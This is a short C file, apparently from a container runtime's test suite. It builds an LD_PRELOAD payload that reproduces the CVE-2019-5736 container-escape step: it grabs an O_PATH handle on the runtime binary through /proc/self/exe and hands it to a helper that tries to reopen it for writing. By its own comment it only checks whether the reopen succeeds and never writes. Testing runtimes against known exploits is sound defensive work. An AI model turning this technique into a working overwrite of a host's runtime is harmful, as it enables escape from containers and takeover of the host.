/* CVE-2019-5736 payload: an LD_PRELOAD library for a container process that manages to execute
 * the runtime's own binary (/proc/self/exe of the runtime's process in the container).  As the
 * published exploit, it keeps an O_PATH fd of /proc/self/exe in another program
 * (`cvetool reopen`), which waits for the runtime binary to stop running, then tries to reopen
 * the fd for writing.  It only opens, never writes; the outcome goes to /exe-attack. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void payload(void)
{
	int exe = open("/proc/self/exe", O_PATH);
	char fd[16];

	unsetenv("LD_PRELOAD");
	if (exe < 0 || fork() != 0)
		return;
	snprintf(fd, sizeof(fd), "%d", exe);
	setsid();
	execl("/bin/cvetool", "cvetool", "reopen", fd, "/exe-attack", (char *)NULL);
	_exit(127);
}
